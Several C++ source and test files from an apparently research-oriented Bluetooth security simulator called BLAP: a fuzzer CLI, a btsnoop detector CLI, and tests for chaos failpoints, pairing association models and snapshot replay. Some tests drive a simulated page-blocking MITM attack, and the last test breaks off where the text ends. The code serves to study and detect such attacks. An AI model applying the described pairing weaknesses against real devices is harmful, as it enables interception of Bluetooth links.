    } else if (std::strcmp(arg, "--json") == 0 && (value = next_value()) != nullptr) {
      json_out = value;
    } else if (std::strcmp(arg, "--corpus-out") == 0 && (value = next_value()) != nullptr) {
      corpus_out = value;
    } else if (std::strcmp(arg, "--findings-dir") == 0 &&
               (value = next_value()) != nullptr) {
      findings_dir = value;
    } else if (std::strcmp(arg, "--run-input") == 0 && (value = next_value()) != nullptr) {
      run_input = value;
    } else {
      std::fprintf(stderr, "blap-fuzz: bad or incomplete option '%s'\n", arg);
      usage(argv[0]);
      return 2;
    }
  }

  if (config.target.empty()) {
    usage(argv[0]);
    return 2;
  }
  if (!run_input.empty()) return run_single_input(config.target, run_input);
  if (config.shards == 0) {
    std::fprintf(stderr, "blap-fuzz: --shards must be >= 1\n");
    return 2;
  }

  std::string why;
  const auto report = run_fuzz_campaign(config, &why);
  if (!report.has_value()) {
    std::fprintf(stderr, "blap-fuzz: %s\n", why.c_str());
    return 2;
  }

  std::printf("target:        %s\n", report->target.c_str());
  std::printf("seed:          %llu\n", static_cast<unsigned long long>(report->seed));
  std::printf("shards x iter: %zu x %zu (jobs=%u)\n", report->shards,
              report->iterations_per_shard, report->jobs_used);
  std::printf("executions:    %zu\n", report->executions);
  std::printf("corpus:        %zu entries, digest %s\n", report->corpus.size(),
              report->corpus_digest.c_str());
  std::printf("findings:      %zu\n", report->findings.size());
  for (const auto& finding : report->findings)
    std::printf("  shard %zu iter %zu [%s]: %s (%zu -> %zu bytes)\n", finding.shard,
                finding.iteration, finding.kind.c_str(), finding.detail.c_str(),
                finding.input.size(), finding.minimized.size());

  if (!json_out.empty() && !write_file(json_out, report->to_json())) {
    std::fprintf(stderr, "blap-fuzz: cannot write %s\n", json_out.c_str());
    return 2;
  }

  if (!corpus_out.empty()) {
    std::error_code ec;
    std::filesystem::create_directories(corpus_out, ec);
    for (std::size_t i = 0; i < report->corpus.size(); ++i) {
      char name[64];
      std::snprintf(name, sizeof(name), "corpus-%05zu.bin", i);
      if (!write_bytes(corpus_out + "/" + name, report->corpus.entry(i))) {
        std::fprintf(stderr, "blap-fuzz: cannot write %s/%s\n", corpus_out.c_str(), name);
        return 2;
      }
    }
  }

  if (!findings_dir.empty() && !report->findings.empty()) {
    std::error_code ec;
    std::filesystem::create_directories(findings_dir, ec);
    // A fresh target instance re-executes each minimised input so stack
    // findings get a bundle recorded from exactly that input.
    const auto factory = resolve_target(config.target);
    const auto target = factory();
    for (const auto& finding : report->findings) {
      char stem[128];
      std::snprintf(stem, sizeof(stem), "fuzz-%s-s%02zu-i%05zu-%s",
                    report->target.c_str(), finding.shard, finding.iteration,
                    finding.kind.c_str());
      FeatureSink sink;
      const ExecResult rerun = target->execute(finding.minimized, sink);
      const auto bundle = target->make_bundle(finding.minimized, rerun);
      if (bundle.has_value()) {
        const std::string path = findings_dir + "/" + stem + ".blapreplay";
        if (!bundle->save_file(path)) {
          std::fprintf(stderr, "blap-fuzz: cannot write %s\n", path.c_str());
          return 2;
        }
      } else {
        const std::string path = findings_dir + "/" + stem + ".bin";
        if (!write_bytes(path, finding.minimized)) {
          std::fprintf(stderr, "blap-fuzz: cannot write %s\n", path.c_str());
          return 2;
        }
      }
    }
  }

  return report->findings.empty() ? 0 : 1;
}
