// blap-snoopd — fleet snoop analytics CLI.
//
// Scans btsnoop captures through the BLAP detector rule set and emits one
// deterministic FleetReport. Point it at a corpus directory (labels.jsonl
// is picked up automatically and turns on the precision/recall table) or at
// explicit capture files:
//
//   blap-snoopd --dir CORPUS [--jobs N] [--json FILE] [--summary-only]
//   blap-snoopd [--labels FILE] [--json FILE] CAPTURE.btsnoop...
//
// Every byte of output — stdout and --json — is a pure function of the
// input files: no wall clock, no hash-order iteration, identical for any
// --jobs / BLAP_JOBS value. CI diffs a --jobs 1 run against a --jobs 8 run.
//
// Exit code: 0 on success, 1 when any capture failed to open/parse or an
// output file could not be written, 2 on usage errors.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "analytics/fleet.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::analytics;

  const char* dir = nullptr;
  const char* labels_path = nullptr;
  const char* json_path = nullptr;
  bool summary_only = false;
  FleetConfig config;
  std::vector<std::string> files;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--dir") == 0 && i + 1 < argc) dir = argv[++i];
    else if (std::strcmp(argv[i], "--labels") == 0 && i + 1 < argc) labels_path = argv[++i];
    else if (std::strcmp(argv[i], "--json") == 0 && i + 1 < argc) json_path = argv[++i];
    else if (std::strcmp(argv[i], "--jobs") == 0 && i + 1 < argc)
      config.jobs = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
    else if (std::strcmp(argv[i], "--summary-only") == 0) summary_only = true;
    else if (argv[i][0] == '-') {
      std::fprintf(stderr,
                   "usage: %s --dir DIR [--jobs N] [--json FILE] [--summary-only]\n"
                   "       %s [--labels FILE] [--jobs N] [--json FILE] FILES...\n",
                   argv[0], argv[0]);
      return 2;
    } else {
      files.emplace_back(argv[i]);
    }
  }
  if ((dir == nullptr) == files.empty()) {
    std::fprintf(stderr, "error: give either --dir DIR or capture files, not both/neither\n");
    return 2;
  }

  std::optional<LabelMap> labels;
  if (dir != nullptr) {
    files = list_snoop_files(dir);
    labels = load_labels(std::string(dir) + "/labels.jsonl");
  }
  if (labels_path != nullptr) {
    labels = load_labels(labels_path);
    if (!labels) {
      std::fprintf(stderr, "error: could not load labels from %s\n", labels_path);
      return 2;
    }
  }

  const FleetReport report = analyze_files(files, config, labels ? &*labels : nullptr);

  std::printf("scanned %zu capture(s), %llu record(s), %llu byte(s); %zu failed\n",
              report.files_scanned,
              static_cast<unsigned long long>(report.records_total),
              static_cast<unsigned long long>(report.bytes_total), report.files_failed);
  std::printf("%-22s | %s\n", "detector", "findings");
  std::printf("%s\n", std::string(34, '-').c_str());
  for (const auto& [name, count] : report.findings_per_detector)
    std::printf("%-22s | %zu\n", name.c_str(), count);
  if (report.scored) {
    std::printf("\n%-22s | %4s %4s %4s %4s | %9s %9s\n", "detector (labelled)", "tp",
                "fp", "fn", "tn", "precision", "recall");
    std::printf("%s\n", std::string(70, '-').c_str());
    for (const auto& [name, score] : report.scores)
      std::printf("%-22s | %4zu %4zu %4zu %4zu | %9.4f %9.4f\n", name.c_str(), score.tp,
                  score.fp, score.fn, score.tn, score.precision(), score.recall());
  }
  if (!summary_only) {
    for (const auto& file : report.files) {
      for (const auto& finding : file.findings)
        std::printf("%s: frame %zu t=%lluus [%s] %s\n", file.name.c_str(), finding.frame,
                    static_cast<unsigned long long>(finding.ts_us),
                    finding.detector.c_str(), finding.detail.c_str());
      if (!file.fault.ok())
        std::printf("%s: FAULT %s\n", file.name.c_str(), file.fault.describe().c_str());
    }
  }

  bool ok = report.files_failed == 0;
  if (json_path != nullptr) {
    std::ofstream out(json_path);
    out << report.to_json();
    out.flush();
    if (out) {
      std::printf("fleet report JSON -> %s\n", json_path);
    } else {
      std::fprintf(stderr, "error: could not write %s\n", json_path);
      ok = false;
    }
  }
  return ok ? 0 : 1;
}
