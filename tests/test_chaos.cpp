// Failpoint registry, chaos campaign determinism, and the teardown-race
// regression the early failpoint runs exposed.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "chaos/chaos_campaign.hpp"
#include "chaos/failpoint.hpp"
#include "hci/packets.hpp"
#include "snapshot/chaos_trial.hpp"
#include "snapshot/scenarios.hpp"

namespace blap {
namespace {

TEST(Failpoint, OffByDefault) {
  ASSERT_EQ(chaos::tl_plan, nullptr);
  // With no plan armed the macro is one never-taken branch: no counting, no
  // firing, no side effects.
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.site"));
}

TEST(Failpoint, RecorderCountsButNeverFires) {
  auto plan = chaos::ChaosPlan::recorder();
  chaos::ScopedChaosPlan armed(plan);
  for (int i = 0; i < 5; ++i) EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.b"));
  EXPECT_EQ(plan.hits().at("test.unit.a"), 5u);
  EXPECT_EQ(plan.hits().at("test.unit.b"), 1u);
  EXPECT_EQ(plan.total_hits(), 6u);
  EXPECT_EQ(plan.fired(), 0u);
}

TEST(Failpoint, InjectFiresAtExactOrdinal) {
  auto plan = chaos::ChaosPlan::inject({{"test.unit.a", 2}});
  chaos::ScopedChaosPlan armed(plan);
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));  // ordinal 0
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));  // ordinal 1
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.b"));  // other sites never fire
  EXPECT_TRUE(BLAP_FAILPOINT("test.unit.a"));   // ordinal 2: the armed one
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));  // ordinal 3
  EXPECT_EQ(plan.fired(), 1u);

  // reset_counts() keeps the armed fault but forgets ordinals: the next
  // trial fires at the same (site, ordinal) again.
  plan.reset_counts();
  EXPECT_EQ(plan.total_hits(), 0u);
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));
  EXPECT_FALSE(BLAP_FAILPOINT("test.unit.a"));
  EXPECT_TRUE(BLAP_FAILPOINT("test.unit.a"));
  EXPECT_EQ(plan.fired(), 1u);
}

TEST(Failpoint, RandomModeIsReplayable) {
  std::vector<bool> first, second;
  for (std::vector<bool>* out : {&first, &second}) {
    auto plan = chaos::ChaosPlan::random(42, 0.5);
    chaos::ScopedChaosPlan armed(plan);
    for (int i = 0; i < 64; ++i) out->push_back(BLAP_FAILPOINT("test.unit.soak"));
  }
  EXPECT_EQ(first, second);
  const auto fired = static_cast<std::size_t>(std::count(first.begin(), first.end(), true));
  EXPECT_GT(fired, 0u);
  EXPECT_LT(fired, 64u);
}

TEST(Failpoint, ScopedArmingNestsAndRestores) {
  auto outer = chaos::ChaosPlan::recorder();
  chaos::ScopedChaosPlan armed_outer(outer);
  {
    auto inner = chaos::ChaosPlan::recorder();
    chaos::ScopedChaosPlan armed_inner(inner);
    (void)BLAP_FAILPOINT("test.unit.nested");
    EXPECT_EQ(inner.total_hits(), 1u);
  }
  EXPECT_EQ(chaos::tl_plan, &outer);
  EXPECT_EQ(outer.total_hits(), 0u);
}

TEST(FaultSites, EncodeDecodeRoundTrip) {
  const std::vector<chaos::FaultSite> sites{{"controller.arq.report_lost", 3},
                                            {"radio.frame.drop", 0}};
  const std::string text = chaos::encode_fault_sites(sites);
  EXPECT_EQ(text, "controller.arq.report_lost@3+radio.frame.drop@0");
  std::vector<chaos::FaultSite> back;
  ASSERT_TRUE(chaos::decode_fault_sites(text, back));
  EXPECT_EQ(back, sites);
}

TEST(FaultSites, DecodeRejectsMalformedText) {
  std::vector<chaos::FaultSite> out;
  EXPECT_FALSE(chaos::decode_fault_sites("no-ordinal", out));
  EXPECT_FALSE(chaos::decode_fault_sites("site@", out));
  EXPECT_FALSE(chaos::decode_fault_sites("@3", out));
  EXPECT_FALSE(chaos::decode_fault_sites("site@12x", out));
  EXPECT_FALSE(chaos::decode_fault_sites("a@1+b@", out));
}

// The fix the early failpoint runs forced (ISSUE 9 satellite): a supervision
// timeout delivered while teardown_link() is already running for the same
// handle must not double-notify the host. The failpoint replays exactly that
// race — supervision_timeout() re-enters at teardown entry — and the host
// must see exactly one Disconnection_Complete.
TEST(TeardownRace, SupervisionTimeoutDuringTeardownNotifiesOnce) {
  snapshot::Scenario s = snapshot::build_scenario(10'000, snapshot::bonded_cell_params());
  snapshot::bonded_warm_setup(s);

  bool pan_up = false;
  s.accessory->host().connect_pan(s.target->address(), [&pan_up](bool ok) { pan_up = ok; });
  s.sim->run_for(20 * kSecond);
  ASSERT_TRUE(pan_up);

  int disconnection_completes = 0;
  s.accessory->transport().add_tap(
      [&disconnection_completes](hci::Direction dir, const hci::HciPacket& packet) {
        if (dir == hci::Direction::kControllerToHost &&
            packet.type == hci::PacketType::kEvent &&
            packet.event_code() == hci::ev::kDisconnectionComplete)
          ++disconnection_completes;
      });

  auto plan = chaos::ChaosPlan::inject({{"controller.teardown.supervision_race", 0}});
  chaos::ScopedChaosPlan armed(plan);
  s.accessory->host().disconnect(s.target->address());
  s.sim->run_for(20 * kSecond);

  EXPECT_EQ(plan.fired(), 1u);
  EXPECT_EQ(disconnection_completes, 1);
  EXPECT_TRUE(s.accessory->host().acls().empty());
  EXPECT_TRUE(s.accessory->controller().audit_links().empty());
}

// The report must be a pure function of the config: same sweep on 1 worker
// and on 8 workers, byte-identical JSON (the CI smoke job diffs exactly
// this). A reduced ordinal cap keeps the test inside a ctest budget.
TEST(ChaosCampaign, ReportIsWorkerCountIndependent) {
  campaign::ChaosCampaignConfig config;
  config.ordinal_cap = 2;
  config.pairs = true;
  config.pair_cap = 8;

  config.jobs = 1;
  const auto serial = campaign::run_chaos_campaign(config);
  config.jobs = 8;
  const auto pooled = campaign::run_chaos_campaign(config);

  ASSERT_TRUE(serial.explored) << serial.fallback_reason;
  ASSERT_TRUE(pooled.explored) << pooled.fallback_reason;
  EXPECT_GT(serial.singles, 0u);
  EXPECT_EQ(serial.pair_trials, 8u);
  EXPECT_EQ(serial.to_json(), pooled.to_json());
}

TEST(ChaosCampaign, BaselineIsCleanAndCoversTheStack) {
  campaign::ChaosCampaignConfig config;
  config.ordinal_cap = 1;  // one trial per reachable site
  const auto report = campaign::run_chaos_campaign(config);
  ASSERT_TRUE(report.explored) << report.fallback_reason;
  EXPECT_EQ(report.baseline.outcome, snapshot::ChaosOutcome::kCompleted);
  EXPECT_EQ(report.baseline.fired, 0u);
  EXPECT_GE(report.sites, 15u);
  EXPECT_EQ(report.singles, report.sites);
  EXPECT_EQ(report.violations, 0u);
  EXPECT_EQ(report.stuck, 0u);
  // Sites from every instrumented layer are reachable on the bonded cell.
  for (const char* prefix : {"controller.", "host.", "radio.", "transport.", "snapshot."}) {
    bool seen = false;
    for (const auto& [site, count] : report.baseline.hits)
      if (site.rfind(prefix, 0) == 0) seen = true;
    EXPECT_TRUE(seen) << "no reachable failpoint under '" << prefix << "'";
  }
}

}  // namespace
}  // namespace blap
