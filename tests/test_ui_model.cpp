// Unit tests for association-model selection and popup policy (Fig. 7).
#include <gtest/gtest.h>

#include "host/ui_model.hpp"

namespace blap::host {
namespace {

using IO = hci::IoCapability;

TEST(AssociationModel, NoInputNoOutputForcesJustWorksEitherSide) {
  for (IO other : {IO::kDisplayOnly, IO::kDisplayYesNo, IO::kKeyboardOnly,
                   IO::kNoInputNoOutput}) {
    EXPECT_EQ(select_association_model(IO::kNoInputNoOutput, other),
              AssociationModel::kJustWorks);
    EXPECT_EQ(select_association_model(other, IO::kNoInputNoOutput),
              AssociationModel::kJustWorks);
  }
}

TEST(AssociationModel, BothDisplayYesNoGivesNumericComparison) {
  EXPECT_EQ(select_association_model(IO::kDisplayYesNo, IO::kDisplayYesNo),
            AssociationModel::kNumericComparison);
}

TEST(AssociationModel, KeyboardGivesPasskeyEntry) {
  EXPECT_EQ(select_association_model(IO::kKeyboardOnly, IO::kDisplayYesNo),
            AssociationModel::kPasskeyEntry);
  EXPECT_EQ(select_association_model(IO::kDisplayOnly, IO::kKeyboardOnly),
            AssociationModel::kPasskeyEntry);
  EXPECT_EQ(select_association_model(IO::kKeyboardOnly, IO::kKeyboardOnly),
            AssociationModel::kPasskeyEntry);
}

TEST(AssociationModel, DisplayOnlyCannotConfirm) {
  EXPECT_EQ(select_association_model(IO::kDisplayOnly, IO::kDisplayYesNo),
            AssociationModel::kJustWorks);
  EXPECT_EQ(select_association_model(IO::kDisplayOnly, IO::kDisplayOnly),
            AssociationModel::kJustWorks);
}

TEST(Confirmation, NumericComparisonShowsValueBothVersions) {
  for (BtVersion version : {BtVersion::kV4_2, BtVersion::kV5_0}) {
    const auto behavior =
        confirmation_behavior(version, IO::kDisplayYesNo, IO::kDisplayYesNo, true);
    EXPECT_TRUE(behavior.shows_popup);
    EXPECT_TRUE(behavior.shows_numeric_value);
    EXPECT_FALSE(behavior.automatic_confirmation);
  }
}

TEST(Confirmation, V42JustWorksInitiatorSilent) {
  // The paper: "most implementations automatically confirm the pairing
  // without any user confirmation when working as the initiator" (<= 4.2).
  const auto behavior =
      confirmation_behavior(BtVersion::kV4_2, IO::kDisplayYesNo, IO::kNoInputNoOutput, true);
  EXPECT_TRUE(behavior.automatic_confirmation);
  EXPECT_FALSE(behavior.shows_popup);
}

TEST(Confirmation, V42JustWorksResponderPrompts) {
  // "when working as the responder, most implementations ask for users'
  // confirmation ... to prevent silent pairing by Just Works".
  const auto behavior =
      confirmation_behavior(BtVersion::kV4_2, IO::kDisplayYesNo, IO::kNoInputNoOutput, false);
  EXPECT_TRUE(behavior.shows_popup);
  EXPECT_FALSE(behavior.shows_numeric_value);
}

TEST(Confirmation, V50JustWorksAlwaysPromptsWithoutValue) {
  // "In version 5.0 or higher, displaying a confirmation popup is mandated
  // on DisplayYesNo devices ... Device does not show the confirmation value."
  for (bool initiator : {true, false}) {
    const auto behavior = confirmation_behavior(BtVersion::kV5_0, IO::kDisplayYesNo,
                                                IO::kNoInputNoOutput, initiator);
    EXPECT_TRUE(behavior.shows_popup) << initiator;
    EXPECT_FALSE(behavior.shows_numeric_value) << initiator;
  }
}

TEST(Confirmation, NoInputNoOutputDeviceAlwaysAutomatic) {
  for (BtVersion version : {BtVersion::kV4_2, BtVersion::kV5_0}) {
    for (bool initiator : {true, false}) {
      const auto behavior =
          confirmation_behavior(version, IO::kNoInputNoOutput, IO::kDisplayYesNo, initiator);
      EXPECT_TRUE(behavior.automatic_confirmation);
      EXPECT_FALSE(behavior.shows_popup);
    }
  }
}

TEST(DescribeCell, PaperFig7aCells) {
  // Version 4.2 and lower quadrant, as printed in the paper.
  EXPECT_EQ(describe_cell(BtVersion::kV4_2, IO::kDisplayYesNo, IO::kDisplayYesNo),
            "Numeric Comparison: Both Display, Both Confirm.");
  EXPECT_EQ(describe_cell(BtVersion::kV4_2, IO::kNoInputNoOutput, IO::kDisplayYesNo),
            "Numeric Comparison with automatic confirmation on device A only.");
  EXPECT_EQ(describe_cell(BtVersion::kV4_2, IO::kDisplayYesNo, IO::kNoInputNoOutput),
            "Numeric Comparison with automatic confirmation on device B only.");
  EXPECT_EQ(describe_cell(BtVersion::kV4_2, IO::kNoInputNoOutput, IO::kNoInputNoOutput),
            "Numeric Comparison with automatic confirmation on both devices.");
}

TEST(DescribeCell, PaperFig7bCellsMentionValuelessPopup) {
  const std::string a_only =
      describe_cell(BtVersion::kV5_0, IO::kNoInputNoOutput, IO::kDisplayYesNo);
  EXPECT_NE(a_only.find("automatic confirmation on device A only"), std::string::npos);
  EXPECT_NE(a_only.find("Device B does not show the confirmation value"), std::string::npos);

  const std::string b_only =
      describe_cell(BtVersion::kV5_0, IO::kDisplayYesNo, IO::kNoInputNoOutput);
  EXPECT_NE(b_only.find("automatic confirmation on device B only"), std::string::npos);
  EXPECT_NE(b_only.find("Device A does not show the confirmation value"), std::string::npos);
}

// Exhaustive sweep: every (version, local, remote, role) combination yields a
// consistent behavior — a popup never coexists with automatic confirmation.
class BehaviorSweep : public ::testing::TestWithParam<int> {};

TEST_P(BehaviorSweep, PopupAndAutoAreMutuallyExclusive) {
  const int param = GetParam();
  const auto version = (param & 1) ? BtVersion::kV5_0 : BtVersion::kV4_2;
  const auto local = static_cast<IO>((param >> 1) & 3);
  const auto remote = static_cast<IO>((param >> 3) & 3);
  const bool initiator = (param >> 5) & 1;
  const auto behavior = confirmation_behavior(version, local, remote, initiator);
  EXPECT_FALSE(behavior.shows_popup && behavior.automatic_confirmation);
  if (behavior.shows_numeric_value) {
    EXPECT_TRUE(behavior.shows_popup);
  }
}

INSTANTIATE_TEST_SUITE_P(AllCombinations, BehaviorSweep, ::testing::Range(0, 64));

}  // namespace
}  // namespace blap::host
