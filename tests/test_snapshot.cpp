// Unit tests for the snapshot layer: capture discipline, validation-before-
// mutation, the scenario/bundle text codecs, and the fork campaign's
// equivalence contract (restore + reseed == fresh build, byte for byte).
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>

#include "common/state_io.hpp"
#include "core/page_blocking.hpp"
#include "snapshot/fork_campaign.hpp"
#include "snapshot/replay.hpp"
#include "snapshot/snapshot.hpp"

namespace blap::snapshot {
namespace {

ScenarioParams abc_params(std::size_t profile_index = 5) {
  ScenarioParams p;
  p.kind = ScenarioParams::Kind::kAbc;
  p.table = ProfileTable::kTable2;
  p.profile_index = profile_index;
  p.accessory_transport = core::TransportKind::kUart;
  p.accessory_has_dump = true;
  p.baseline_bias = core::table2_profiles()[profile_index].baseline_mitm_success;
  return p;
}

ScenarioParams extraction_params() {
  ScenarioParams p;
  p.kind = ScenarioParams::Kind::kExtraction;
  p.profile_index = 5;
  return p;
}

// --- state_io skip -----------------------------------------------------------

TEST(StateIo, SkipAdvancesAndBoundsChecks) {
  state::StateWriter w;
  w.u32(0xAAAAAAAA);
  w.u32(0xBBBBBBBB);
  w.u64(0x1122334455667788ULL);
  const Bytes data = w.take();

  state::StateReader r(data);
  r.skip(8);  // past both u32s
  EXPECT_TRUE(r.ok());
  EXPECT_EQ(r.u64(), 0x1122334455667788ULL);
  EXPECT_EQ(r.remaining(), 0u);

  state::StateReader r2(data);
  r2.skip(17);  // one past the end
  EXPECT_FALSE(r2.ok());
}

// --- capture discipline ------------------------------------------------------

TEST(Snapshot, StrictCaptureRequiresQuiescence) {
  Scenario s = build_scenario(1, abc_params());
  std::string why;
  ASSERT_TRUE(Snapshot::capture(*s.sim, &why).has_value()) << why;

  // A pending pair operation (events queued, host op in flight) blocks the
  // strict capture with a diagnosable reason.
  s.accessory->host().pair(s.target->address(), [](hci::Status) {});
  const auto blocked = Snapshot::capture(*s.sim, &why);
  EXPECT_FALSE(blocked.has_value());
  EXPECT_FALSE(why.empty());

  // Relaxed capture works at the same point.
  const Snapshot relaxed = Snapshot::capture_relaxed(*s.sim);
  EXPECT_FALSE(relaxed.strict());
  EXPECT_FALSE(relaxed.bytes().empty());
}

TEST(Snapshot, RestoreReseedEqualsFreshBuild) {
  const ScenarioParams params = abc_params();
  Scenario warm = build_scenario(100, params);
  std::string why;
  const auto snap = Snapshot::capture(*warm.sim, &why);
  ASSERT_TRUE(snap.has_value()) << why;

  // Restore + reseed must reproduce a fresh build with the trial seed,
  // byte for byte — the fork engine's whole contract.
  ASSERT_TRUE(snap->restore(*warm.sim, &why)) << why;
  warm.sim->reseed(777);
  const auto forked = Snapshot::capture(*warm.sim, &why);
  ASSERT_TRUE(forked.has_value()) << why;

  Scenario fresh = build_scenario(777, params);
  const auto built = Snapshot::capture(*fresh.sim, &why);
  ASSERT_TRUE(built.has_value()) << why;
  EXPECT_EQ(forked->bytes(), built->bytes());
}

TEST(Snapshot, RelaxedSnapshotCannotRewind) {
  Scenario s = build_scenario(2, abc_params());
  const Snapshot relaxed = Snapshot::capture_relaxed(*s.sim);
  std::string why;
  EXPECT_FALSE(relaxed.restore(*s.sim, &why));
  EXPECT_FALSE(why.empty());
}

TEST(Snapshot, InPlaceRestoreDemandsTheCaptureInstant) {
  Scenario s = build_scenario(3, abc_params());
  s.accessory->host().pair(s.target->address(), [](hci::Status) {});
  for (int i = 0; i < 10; ++i) (void)s.sim->scheduler().step();
  const Snapshot mid = Snapshot::capture_relaxed(*s.sim);

  std::string why;
  ASSERT_TRUE(mid.restore_in_place(*s.sim, &why)) << why;  // same instant: fine

  s.sim->run_for(5 * kSecond);
  EXPECT_FALSE(mid.restore_in_place(*s.sim, &why));  // clock moved on
  EXPECT_FALSE(why.empty());
}

TEST(Snapshot, TopologyMismatchLeavesSimulationUntouched) {
  Scenario uart = build_scenario(4, abc_params());
  ScenarioParams usb = abc_params();
  usb.accessory_transport = core::TransportKind::kUsb;
  Scenario other = build_scenario(4, usb);

  std::string why;
  const auto snap = Snapshot::capture(*uart.sim, &why);
  ASSERT_TRUE(snap.has_value()) << why;

  const auto before = Snapshot::capture(*other.sim, &why);
  ASSERT_TRUE(before.has_value()) << why;
  EXPECT_FALSE(snap->restore(*other.sim, &why));  // transport kinds differ
  EXPECT_FALSE(why.empty());
  const auto after = Snapshot::capture(*other.sim, &why);
  ASSERT_TRUE(after.has_value()) << why;
  EXPECT_EQ(before->bytes(), after->bytes());  // validation did not mutate
}

// --- structural validation ---------------------------------------------------

TEST(Snapshot, FromBytesRejectsCorruptInput) {
  Scenario s = build_scenario(5, abc_params());
  std::string why;
  const auto snap = Snapshot::capture(*s.sim, &why);
  ASSERT_TRUE(snap.has_value()) << why;
  const Bytes& good = snap->bytes();
  ASSERT_TRUE(Snapshot::from_bytes(good, &why).has_value()) << why;

  Bytes bad_magic = good;
  bad_magic[0] ^= 0xFF;
  EXPECT_FALSE(Snapshot::from_bytes(bad_magic, &why).has_value());

  Bytes bad_version = good;
  bad_version[8] ^= 0xFF;  // little-endian u32 version follows the magic
  EXPECT_FALSE(Snapshot::from_bytes(bad_version, &why).has_value());

  // Every strict prefix must be rejected (section lengths run past the
  // end); so must trailing garbage.
  for (std::size_t cut : {std::size_t{0}, std::size_t{4}, std::size_t{9},
                          good.size() / 2, good.size() - 1}) {
    Bytes truncated(good.begin(), good.begin() + static_cast<std::ptrdiff_t>(cut));
    EXPECT_FALSE(Snapshot::from_bytes(truncated, &why).has_value())
        << "prefix of " << cut << " bytes parsed";
  }
  Bytes trailing = good;
  trailing.push_back(0x00);
  EXPECT_FALSE(Snapshot::from_bytes(trailing, &why).has_value());
}

TEST(Snapshot, FileRoundTrip) {
  Scenario s = build_scenario(6, abc_params());
  std::string why;
  const auto snap = Snapshot::capture(*s.sim, &why);
  ASSERT_TRUE(snap.has_value()) << why;

  const std::string path =
      (std::filesystem::temp_directory_path() / "blap_test_snapshot.blapsnap").string();
  ASSERT_TRUE(snap->save_file(path));
  const auto loaded = Snapshot::load_file(path, &why);
  std::remove(path.c_str());
  ASSERT_TRUE(loaded.has_value()) << why;
  EXPECT_EQ(loaded->bytes(), snap->bytes());
  EXPECT_EQ(loaded->strict(), snap->strict());
  EXPECT_EQ(loaded->captured_at(), snap->captured_at());
}

// --- scenario codec ----------------------------------------------------------

TEST(ScenarioCodec, RoundTrips) {
  for (const ScenarioParams& p :
       {abc_params(0), abc_params(5), extraction_params(), [] {
          ScenarioParams q = abc_params(3);
          q.accessory_transport = core::TransportKind::kUsb;
          q.accessory_has_dump = false;
          q.baseline_bias = 0.123456789012345;
          return q;
        }()}) {
    const std::string text = encode_scenario(p);
    const auto back = decode_scenario(text);
    ASSERT_TRUE(back.has_value()) << text;
    EXPECT_EQ(*back, p) << text;
  }
}

TEST(ScenarioCodec, RejectsMalformedManifests) {
  EXPECT_FALSE(decode_scenario("").has_value());
  EXPECT_FALSE(decode_scenario("table=2 profile=5").has_value());  // no kind
  EXPECT_FALSE(decode_scenario("kind=abc bogus=1").has_value());   // unknown key
  EXPECT_FALSE(decode_scenario("kind=abc table=2 profile=9999").has_value());
  EXPECT_FALSE(decode_scenario("kind=warp").has_value());
}

// --- replay bundle codec -----------------------------------------------------

TEST(ReplayBundleCodec, RoundTrips) {
  ReplayBundle b;
  b.scenario = abc_params();
  b.build_seed = 424242;
  b.trial_index = 17;
  b.trial_seed = 0xDEADBEEFCAFEF00DULL;
  b.trial_kind = "page_blocking_attack_metrics";
  faults::FaultPlan plan;
  plan.seed = 99;
  plan.loss = 0.35;
  b.fault_plan = plan;
  b.expected_success = true;
  b.expected_value = 0.25;
  b.expected_virtual_end = 30030000;
  b.expected_metrics_json = "{\n  \"counters\": {}\n}";
  b.snapshot = {0x42, 0x4C, 0x41, 0x50, 0x00, 0xFF};

  std::string why;
  const auto back = ReplayBundle::from_text(b.to_text(), &why);
  ASSERT_TRUE(back.has_value()) << why;
  EXPECT_EQ(back->scenario, b.scenario);
  EXPECT_EQ(back->build_seed, b.build_seed);
  EXPECT_EQ(back->trial_index, b.trial_index);
  EXPECT_EQ(back->trial_seed, b.trial_seed);
  EXPECT_EQ(back->trial_kind, b.trial_kind);
  ASSERT_TRUE(back->fault_plan.has_value());
  EXPECT_EQ(back->fault_plan->seed, plan.seed);
  EXPECT_EQ(back->fault_plan->loss, plan.loss);
  EXPECT_EQ(back->expected_success, b.expected_success);
  EXPECT_EQ(back->expected_value, b.expected_value);
  EXPECT_EQ(back->expected_virtual_end, b.expected_virtual_end);
  EXPECT_EQ(back->expected_metrics_json, b.expected_metrics_json);
  EXPECT_EQ(back->snapshot, b.snapshot);
}

TEST(ReplayBundleCodec, RejectsMalformedText) {
  std::string why;
  EXPECT_FALSE(ReplayBundle::from_text("", &why).has_value());
  EXPECT_FALSE(ReplayBundle::from_text("not-a-bundle\n", &why).has_value());

  ReplayBundle b;
  b.scenario = abc_params();
  b.trial_kind = "page_blocking_baseline";
  b.snapshot = {1, 2, 3};
  const std::string good = b.to_text();
  EXPECT_TRUE(ReplayBundle::from_text(good, &why).has_value()) << why;
  EXPECT_FALSE(ReplayBundle::from_text("bogus_key: 1\n" + good, &why).has_value());
}

TEST(Replay, KnownTrialKinds) {
  EXPECT_TRUE(known_trial_kind("page_blocking_baseline"));
  EXPECT_TRUE(known_trial_kind("page_blocking_attack"));
  EXPECT_TRUE(known_trial_kind("page_blocking_attack_metrics"));
  EXPECT_FALSE(known_trial_kind("warp_drive"));
  EXPECT_FALSE(known_trial_kind(""));
}

// --- fork campaign -----------------------------------------------------------

campaign::TrialResult baseline_body(const campaign::TrialSpec&, Scenario& s) {
  campaign::TrialResult r;
  r.success =
      core::PageBlockingAttack::baseline_trial(*s.sim, *s.attacker, *s.accessory, *s.target);
  r.virtual_end = s.sim->now();
  return r;
}

TEST(ForkCampaign, MatchesRebuildPathByteForByte) {
